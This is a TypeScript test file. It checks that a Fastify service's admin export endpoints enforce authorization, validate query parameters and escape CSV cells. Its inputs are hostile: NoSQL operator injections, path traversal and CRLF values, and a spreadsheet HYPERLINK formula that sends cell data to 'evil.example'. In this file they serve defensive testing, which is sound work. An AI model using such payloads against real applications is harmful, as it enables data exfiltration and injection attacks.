import t from 'tap'
import { listen } from './helper.ts'

const FILES = ['users.ndjson', 'users.csv', 'transactions.ndjson', 'transactions.csv', 'signals.ndjson', 'signals.csv']
const ID = 'f'.repeat(24)

t.test('nobody but an admin exports anything, and no key does', async (t) => {
  const { origin, fastify, people } = await listen(t)
  const keyOf = async ({ caller }: typeof people.analyst) => ({ 'x-api-key': (await fastify.apiKeys.create(caller, { name: 'key', scope: 'read' })).key })
  const [ofAnalyst, ofAdmin] = [await keyOf(people.rival), await keyOf(people.analyst)]
  await fastify.documents.collection('users').updateOne({ user_id: people.analyst.user_id }, { $set: { tier: 'admin' } })
  for (const file of FILES) {
    const ask = async (headers: Record<string, string>) => {
      const response = await fetch(`${origin}/v1/exports/${file}`, { headers })
      return { status: response.status, code: (await response.json() as { code: string }).code }
    }
    t.match(await ask({}), { status: 401, code: 'UNAUTHENTICATED' })
    for (const { headers } of [people.user, people.subscriber, people.rival]) t.match(await ask(headers), { status: 403, code: 'FORBIDDEN' })
    t.match(await ask(ofAnalyst), { status: 403, code: 'INSUFFICIENT_SCOPE' })
    t.match(await ask(ofAdmin), { status: 401, code: 'UNAUTHENTICATED' }, 'the keys of who becomes an admin end')
  }
  t.equal(await fastify.documents.collection('audit_log').countDocuments({ action: 'export' }), 0)
})

t.test('positions and months are what their schema says, and no operators', async (t) => {
  const { origin, people: { admin, user }, isWell } = await listen(t)
  const statusOf = async (path: string, { headers } = admin) => (await fetch(`${origin}/v1/${path}`, { headers })).status
  for (const value of ['[$gt]=', '[$ne]=1', '[]=1', '=1&after=2', '={"$gt":0}', `=${ID}'`, '=-1', '=0', '=1e3', '=', '=%00', '=../x']) {
    for (const file of FILES) t.equal(await statusOf(`exports/${file}?after${value}`), 400, `${file} ${value}`)
  }
  t.equal(await statusOf(`exports/users.csv?after=${ID}`), 400, 'an identifier of another collection')
  t.equal(await statusOf('exports/signals.csv?after=1'), 400)
  for (const month of ['', '?month=', '?month=2026-13', '?month=2026-00', '?month=2026-1', '?month=2026-11-01', '?month=1999-01', '?month[$gt]=2026-01', '?month=2026-01&month=2026-02', '?month=2026-01&user_id=1', '?month=%0d%0aX: y']) {
    t.equal(await statusOf(`users/me/transactions.csv${month}`, user), 400, month)
  }
  t.equal(await statusOf('exports/sessions.csv'), 404)
  t.ok(await isWell())
})

t.test('what users write is no formula in the spreadsheet of an admin', async (t) => {
  const { origin, fastify, people: { admin, user } } = await listen(t)
  const reference = '=HYPERLINK("https://evil.example?"&A1,"ok")\r\n+2'
  await fastify.ledger.transact(({ post }) => post({ user_id: user.user_id, kind: 'adjustment', amount: -5_000_000, reference }))
  for (const [path, { headers }] of [['exports/transactions.csv', admin], [`users/me/transactions.csv?month=${new Date().toISOString().slice(0, 7)}`, user]] as const) {
    const file = await (await fetch(`${origin}/v1/${path}`, { headers })).text()
    t.match(file, /,"'=HYPERLINK\(""https:\/\/evil\.example\?""&A1,""ok""\)\n\+2"(,|\r\n)/)
    t.match(file, ',-5.000000,', 'an amount is a number')
  }
})

t.test('an export goes on for longer than requests may take to come in', async (t) => {
  const { origin, fastify, people: { admin } } = await listen(t, { server: { requestTimeout: 200, connectionTimeout: 2000 } })
  await fastify.documents.collection('transactions').insertMany(Array.from({ length: 20_000 }, () =>
    ({ user_id: 1, kind: 'deposit', amount: 1, status: 'completed', reference: 'x'.repeat(600), created_at: new Date() })))
  const response = await fetch(`${origin}/v1/exports/transactions.ndjson`, { headers: { ...admin.headers, 'accept-encoding': 'identity' } })
  const startedAt = performance.now()
  let length = 0
  for await (const chunk of response.body ?? []) {
    // a slow reader
    if (length % 7 === 0) await new Promise((resolve) => { setTimeout(resolve, 10) })
    length += (chunk as Uint8Array).length
  }
  t.ok(length > 14_000_000)
  t.ok(performance.now() - startedAt > 200, `${performance.now() - startedAt} ms`)
})
